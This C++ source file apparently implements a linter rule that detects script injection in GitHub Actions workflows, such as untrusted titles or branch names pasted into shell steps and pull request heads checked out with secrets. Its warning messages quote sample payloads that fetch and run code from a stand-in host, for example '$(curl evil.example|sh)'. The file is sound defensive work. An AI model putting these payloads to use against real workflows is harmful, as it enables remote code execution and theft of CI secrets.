#include <algorithm>
#include <array>
#include <map>
#include <string>
#include <vector>

#include "rules/delivery_check.h"
#include "rules/rule.h"
#include "text/one_of.h"
#include "text/words.h"

namespace fastidious::rules {
namespace {

using deploy::MappedText;
using deploy::Read;
using deploy::Workflow;
using deploy::WorkflowJob;
using deploy::WorkflowStep;

using Events = std::array<std::string_view, 6>;

constexpr Events kIssues = {"issues", "issue_comment"};
constexpr Events kPullRequests = {"pull_request_target", "pull_request_review",
                                  "pull_request_review_comment", "pull_request"};
constexpr Events kHeads = {"pull_request_target", "pull_request"};
constexpr Events kComments = {"issue_comment", "commit_comment", "discussion_comment",
                              "pull_request_review_comment"};
constexpr Events kReviews = {"pull_request_review"};
constexpr Events kReviewComments = {"pull_request_review_comment"};
constexpr Events kPages = {"gollum"};
constexpr Events kPushes = {"push"};
constexpr Events kDiscussions = {"discussion", "discussion_comment"};
constexpr Events kRuns = {"workflow_run"};

// What strangers write
// (https://docs.github.com/en/actions/concepts/security/script-injections), and the events that
// carry it (https://docs.github.com/en/webhooks/webhook-events-and-payloads): in the runs of others
// it is empty.
struct Untrusted {
  std::string_view reference;
  const Events* events;
  std::string_view noun, variable;
};
constexpr std::array kUntrusted = {
    Untrusted{"github.head_ref", &kHeads, "branch name", "BRANCH"},
    Untrusted{"github.event.issue.title", &kIssues, "title", "TITLE"},
    Untrusted{"github.event.issue.body", &kIssues, "text", "BODY"},
    Untrusted{"github.event.pull_request.title", &kPullRequests, "title", "TITLE"},
    Untrusted{"github.event.pull_request.body", &kPullRequests, "text", "BODY"},
    Untrusted{"github.event.pull_request.head.ref", &kPullRequests, "branch name", "BRANCH"},
    Untrusted{"github.event.pull_request.head.label", &kPullRequests, "branch name", "BRANCH"},
    Untrusted{"github.event.pull_request.head.repo.default_branch", &kPullRequests, "branch name",
              "BRANCH"},
    Untrusted{"github.event.comment.body", &kComments, "comment", "BODY"},
    Untrusted{"github.event.review.body", &kReviews, "review", "BODY"},
    Untrusted{"github.event.review_comment.body", &kReviewComments, "comment", "BODY"},
    Untrusted{"github.event.pages.*.page_name", &kPages, "page's name", "PAGE"},
    Untrusted{"github.event.commits.*.message", &kPushes, "commit message", "MESSAGE"},
    Untrusted{"github.event.commits.*.author.email", &kPushes, "author's address", "AUTHOR"},
    Untrusted{"github.event.commits.*.author.name", &kPushes, "author's name", "AUTHOR"},
    Untrusted{"github.event.head_commit.message", &kPushes, "commit message", "MESSAGE"},
    Untrusted{"github.event.head_commit.author.email", &kPushes, "author's address", "AUTHOR"},
    Untrusted{"github.event.head_commit.author.name", &kPushes, "author's name", "AUTHOR"},
    Untrusted{"github.event.discussion.title", &kDiscussions, "title", "TITLE"},
    Untrusted{"github.event.discussion.body", &kDiscussions, "text", "BODY"},
    Untrusted{"github.event.workflow_run.head_branch", &kRuns, "branch name", "BRANCH"},
};

// Runs for pull requests of forks have neither secrets nor a token that may write; who may push has
// both anyway.
bool is_open(std::string_view event) {
  constexpr std::array<std::string_view, 10> kOpen = {"pull_request_target",
                                                      "workflow_run",
                                                      "issues",
                                                      "issue_comment",
                                                      "discussion",
                                                      "discussion_comment",
                                                      "pull_request_review",
                                                      "pull_request_review_comment",
                                                      "gollum",
                                                      "commit_comment"};
  return is_one_of(event, kOpen);
}

bool writes_json(std::string_view expression) {
  const auto functions = deploy::functions_in(expression);
  return std::find(functions.begin(), functions.end(), "tojson") != functions.end();
}

constexpr int kMaxCalls = 4;  // workflows that call each other are followed so far

// Which workflows of the repository call which, by the path of what is called.
using Callers = std::map<std::string_view, std::vector<const Read<Workflow>*>>;

Callers callers_in(const std::vector<Read<Workflow>>& workflows) {
  Callers callers;
  for (const Read<Workflow>& one : workflows) {
    for (const WorkflowJob& job : one.content.jobs) {
      if (!job.uses.starts_with("./")) continue;
      auto& all = callers[job.uses.substr(2)];
      if (all.empty() || all.back() != &one) all.push_back(&one);
    }
  }
  return callers;
}

const std::vector<const Read<Workflow>*>& callers_of(const Callers& callers,
                                                     const Read<Workflow>& called) {
  static const std::vector<const Read<Workflow>*> kNone;
  const auto at = callers.find(called.file->path);
  return at == callers.end() ? kNone : at->second;
}

// Whether the event starts the workflow, or one of the repository that calls it.
bool is_started_by(const Callers& callers, const Read<Workflow>& workflow, std::string_view event,
                   int depth = 0) {
  if (workflow.content.is_triggered_by(event)) return true;
  if (depth >= kMaxCalls || !workflow.content.is_triggered_by("workflow_call")) return false;
  const auto& all = callers_of(callers, workflow);
  return std::any_of(all.begin(), all.end(), [&](const Read<Workflow>* other) {
    return is_started_by(callers, *other, event, depth + 1);
  });
}

// How a text of strangers gets into the script: by which event, and with what rights.
struct Way {
  enum class Kind : std::uint8_t { None, Uncalled, Closed, Open } kind = Kind::None;
  std::string_view event;
  const Untrusted* text = nullptr;
};

Way way_of(const Callers& callers, const Read<Workflow>& workflow, const Untrusted& text) {
  Way way;
  way.text = &text;
  for (std::string_view event : *text.events) {
    if (event.empty() || !is_started_by(callers, workflow, event)) continue;
    const Way::Kind kind = is_open(event) ? Way::Kind::Open : Way::Kind::Closed;
    if (kind > way.kind) way = {kind, event, &text};
  }
  const bool waits = way.kind == Way::Kind::None &&
                     workflow.content.is_triggered_by("workflow_call") &&
                     callers_of(callers, workflow).empty();
  if (waits) way = {Way::Kind::Uncalled, text.events->front(), &text};
  return way;
}

// The most open way of what the reference holds; of `toJSON(github.event.commits)` a part is a
// text of strangers, whose quotes end those of the shell.
Way way_of(const Callers& callers, const Read<Workflow>& workflow, const std::string& reference,
           bool is_json) {
  Way best;
  for (const Untrusted& one : kUntrusted) {
    const bool part = is_json && one.reference.starts_with(reference) &&
                      one.reference.substr(reference.size()).starts_with('.');
    if (one.reference != reference && !part) continue;
    const Way way = way_of(callers, workflow, one);
    if (way.kind > best.kind) best = way;
  }
  return best;
}

// Where in a script the text is pasted, which decides what gets out of it and how to read it there.
enum class Place : std::uint8_t { Shell, SingleQuotes, OtherLanguage, JavaScript };

// Whether `script` ends within single quotes; comments are passed over, and `$(…)` within double
// quotes begins anew.
bool ends_in_single_quotes(std::string_view script) {
  char quote = 0;
  std::vector<char> outer;
  for (std::size_t i = 0; i < script.size(); ++i) {
    const char c = script[i];
    const bool starts_word = i == 0 || script[i - 1] == ' ' || script[i - 1] == '\n';
    if (c == '\\' && quote != '\'') {
      ++i;
    } else if (c == '$' && quote != '\'' && script.substr(i).starts_with("$(")) {
      outer.push_back(quote);
      quote = 0;
      ++i;
    } else if (quote == 0 && c == ')' && !outer.empty()) {
      quote = outer.back();
      outer.pop_back();
    } else if (quote == 0 && c == '#' && starts_word) {
      i = std::min(script.find('\n', i), script.size());
    } else if (c == quote) {
      quote = 0;
    } else if (quote == 0 && (c == '\'' || c == '"')) {
      quote = c;
    }
  }
  return quote == '\'';
}

// Whether a program of another language, or a document, has begun before: node -e "…", cat <<EOF.
bool has_other_language(std::string_view script) {
  constexpr std::array<std::string_view, 6> kPrograms = {"node -e", "python -c", "python3 -c",
                                                         "<<",      "ruby -e",   "perl -e"};
  return std::any_of(kPrograms.begin(), kPrograms.end(), [&](std::string_view one) {
    const std::size_t at = script.rfind(one);
    if (at == script.npos) return false;
    const bool is_word = one == "<<" && at > 0 && script[at - 1] == '<';  // <<< "$text"
    return !is_word;
  });
}

Place place_in(const MappedText& script, Span expression, bool is_shell) {
  if (!is_shell) return Place::JavaScript;
  const std::string_view before = std::string_view(script.text()).substr(0, expression.begin);
  if (has_other_language(before)) return Place::OtherLanguage;
  return ends_in_single_quotes(before) ? Place::SingleQuotes : Place::Shell;
}

// Names of branches have no blanks and no `//`.
std::string_view example_of(const Untrusted& text, Place place) {
  const bool branch = text.variable == "BRANCH";
  if (place == Place::JavaScript) return "'+process.exit()+'";
  if (place == Place::SingleQuotes) {
    return branch ? "';curl${IFS}evil.example|sh;'" : "';curl evil.example|sh;'";
  }
  return branch ? "$(curl${IFS}evil.example|sh)" : "$(curl evil.example|sh)";
}

void word(Draft& draft, const Read<Workflow>& workflow, const Way& way, Place place) {
  const Untrusted& text = *way.text;
  const std::string_view example = example_of(text, place);
  if (way.kind == Way::Kind::Open) {
    if (!workflow.content.is_triggered_by(way.event)) draft.confidence(Confidence::Medium);
    draft.risk(
        "Expressions are replaced before the script starts: on `{}` a {} such as `{}` runs with "
        "the workflow's secrets and its token.",
        {way.event, text.noun, example});
  } else if (way.kind == Way::Kind::Uncalled) {
    draft.severity(Severity::Suggestion).confidence(Confidence::Medium);
    draft.risk(
        "Nothing in this repository calls it; the first workflow that does on `{}` runs a {} such "
        "as `{}` with its secrets.",
        {way.event, text.noun, example});
  } else if (way.event == "push") {
    draft.severity(Severity::Warning);
    draft.risk(
        "With a stranger's commit that is merged, a {} such as `{}` runs on the runner, with the "
        "secrets and the token of the push.",
        {text.noun, example});
  } else {
    draft.severity(Severity::Warning);
    draft.risk(
        "A {} such as `{}` runs on the runner. For pull requests of forks it has no secrets and a "
        "token that only reads; a colleague's branch has both.",
        {text.noun, example});
  }
}

void advise(Draft& draft, std::string_view variable, std::string_view expression, Place place) {
  if (place == Place::OtherLanguage) {
    draft.fix(
        "Hand it over as data: `env: {{}: '${{ {} }}'}` in the step; the program within the script "
        "reads `{}` from its environment.",
        {variable, expression, variable});
    return;
  }
  const bool shell = place != Place::JavaScript;
  draft.fix(
      "Hand it over as data: `env: {{}: '${{ {} }}'}` in the step, and `{}{}{}` in the "
      "script{}.",
      {variable, expression, shell ? "\"$" : "process.env.", variable, shell ? "\"" : "",
       place == Place::SingleQuotes ? " instead of the single quotes" : ""});
}

void check_text(DeliveryCheck& check, const Callers& callers, const Read<Workflow>& workflow,
                const MappedText& text, std::string_view where) {
  for (const deploy::Expression& expression : deploy::expressions_in(text.text())) {
    const bool is_json = writes_json(expression.text);
    for (const std::string& reference : deploy::references_in(expression.text)) {
      const Way way = way_of(callers, workflow, reference, is_json);
      if (way.kind == Way::Kind::None) continue;
      Draft draft = check.report(*workflow.file, text.place(expression.span),
                                 "`{}`, which strangers write, is pasted into the {} as code",
                                 {expression.text, where});
      const Place place = place_in(text, expression.span, where.starts_with("shell"));
      word(draft, workflow, way, place);
      advise(draft, way.text->variable, expression.text, place);
    }
  }
}

void check_step(DeliveryCheck& check, const Callers& callers, const Read<Workflow>& workflow,
                const WorkflowStep& step) {
  if (step.run != nullptr) check_text(check, callers, workflow, step.script_text, "shell's script");
  if (step.action() != "actions/github-script" || step.with == nullptr) return;
  const deploy::Node* script = step.with->find("script");
  if (script == nullptr || !script->is_scalar()) return;
  check_text(check, callers, workflow, deploy::mapped_text(*script, workflow.file->text.view()),
             "script");
}

// Whether the ref is that of the pull request, not of the base.
bool is_head(std::string_view ref) {
  for (std::string_view part : {"pull_request.head.", "head_ref", "refs/pull/",
                                "workflow_run.head_", "pull_request.number", "event.number"}) {
    if (ref.find(part) != ref.npos) return true;
  }
  return false;
}

// Whether something of the job may run what was checked out: a script, an action of the tree, or
// any action but those that only speak to the API.
bool may_run_tree(const WorkflowJob& job) {
  return std::any_of(job.steps.begin(), job.steps.end(), [](const WorkflowStep& step) {
    if (step.action() == "actions/checkout") return false;
    if (step.action() != "actions/github-script" || step.with == nullptr) return true;
    const deploy::Node* script = step.with->find("script");
    return script == nullptr || script->text.find("require(") != std::string::npos ||
           script->text.find("import(") != std::string::npos ||
           script->text.find("exec") != std::string::npos;
  });
}

void say_not_run(Draft& draft) {
  draft.severity(Severity::Warning);
  draft.risk(
      "Nothing of it runs today; the first step that does, a build or a linter, gives a stranger "
      "the secrets and the token.");
  draft.fix(
      "Read the files through the API (`github.rest.repos.getContent`), or check out the base and "
      "fetch the head without running it.");
}

// Whether the condition lets only runs pass that no pull request has started, or those of the
// repository's own branches.
bool keeps_strangers_out(std::string_view condition) {
  std::string text;
  for (const char c : condition) {
    if (c != ' ' && c != '\n' && c != '"') text += c;
  }
  constexpr std::array<std::string_view, 6> kTests = {
      "workflow_run.event=='push'",
      "workflow_run.event=='schedule'",
      "workflow_run.event!='pull_request'",
      "head_repository.full_name==github.repository",
      "github.repository==github.event.workflow_run.head_repository.full_name",
      "head.repo.full_name==github.repository"};
  return contains_any(text, kTests);
}

void check_checkout(DeliveryCheck& check, const Read<Workflow>& workflow, const WorkflowJob& job,
                    const WorkflowStep& step) {
  if (step.action() != "actions/checkout" || step.with == nullptr) return;
  const deploy::Node* ref = step.with->find("ref");
  if (ref == nullptr || !is_head(ref->text)) return;
  const bool target = workflow.content.is_triggered_by("pull_request_target");
  const bool run = workflow.content.is_triggered_by("workflow_run");
  if (!target && !run) return;
  if (keeps_strangers_out(job.condition) || keeps_strangers_out(step.condition)) return;
  Draft draft = check.report(
      *workflow.file, ref->span,
      "The code of any pull request is checked out in a run that has the repository's secrets");
  draft.risk(
      "`{}` runs with secrets and a token that may write: a stranger's setup.py, test or Makefile "
      "reads "
      "them.",
      {target ? "pull_request_target" : "workflow_run"});
  draft.fix(
      "Use `pull_request` for what runs their code; leave to `{}` what only labels and comments.",
      {target ? "pull_request_target" : "workflow_run"});
  if (!may_run_tree(job)) say_not_run(draft);
  const bool guarded = !job.condition.empty() || job.environment != nullptr;
  if (guarded) draft.confidence(Confidence::Medium);
}

void check(DeliveryCheck& check) {
  const Callers callers = callers_in(check.delivery().manifests().workflows);
  for (const Read<Workflow>& workflow : check.delivery().manifests().workflows) {
    for (const WorkflowJob& job : workflow.content.jobs) {
      for (const WorkflowStep& step : job.steps) {
        check_step(check, callers, workflow, step);
        check_checkout(check, workflow, job, step);
      }
    }
  }
}

}  // namespace

extern constinit const Rule CIC004 = {
    .code = "CIC004",
    .name = "workflow-injection",
    .family = Family::Ci,
    .severity = Severity::Critical,
    .risk_kind = RiskKind::Security,
    .fix = FixClass::Unsafe,
    .where = Where::Everywhere,
    .references = {"CWE-94", "CWE-829",
                   "https://docs.github.com/en/actions/concepts/security/script-injections"},
    .risk =
        "Expressions are replaced before the shell starts: a title such as `$(curl "
        "evil.example|sh)` "
        "runs with the workflow's secrets and its token.",
    .advice =
        "Hand it over as data: `env: {TITLE: '${{ … }}'}` beside `run`, and `\"$TITLE\"` in the "
        "script.",
    .docs = R"md(
Titles, bodies, branch names and commit messages in `${{ … }}` of a `run` or of actions/github-script; and the checkout of a pull request's head in
`pull_request_target` or `workflow_run`.

```python bad
# --- .github/workflows/triage.yml
on: issues
jobs:
  label:
    runs-on: ubuntu-latest
    steps:
      - run: echo "${{ github.event.issue.title }}"
```

```python good
# --- .github/workflows/triage.yml
on: issues
jobs:
  label:
    runs-on: ubuntu-latest
    steps:
      - run: echo "$TITLE"
        env:
          TITLE: ${{ github.event.issue.title }}
```

A warning where only `push` and `pull_request` carry the text: forks get neither secrets nor a token that may write. A suggestion in a
reusable workflow that nothing here calls. What none of the workflow's events carries is empty and left alone (`github.head_ref` in a
run by hand), and so are inputs of `workflow_dispatch`, which come from who may push anyway.
)md",
    .on_delivery = check,
};

}  // namespace fastidious::rules
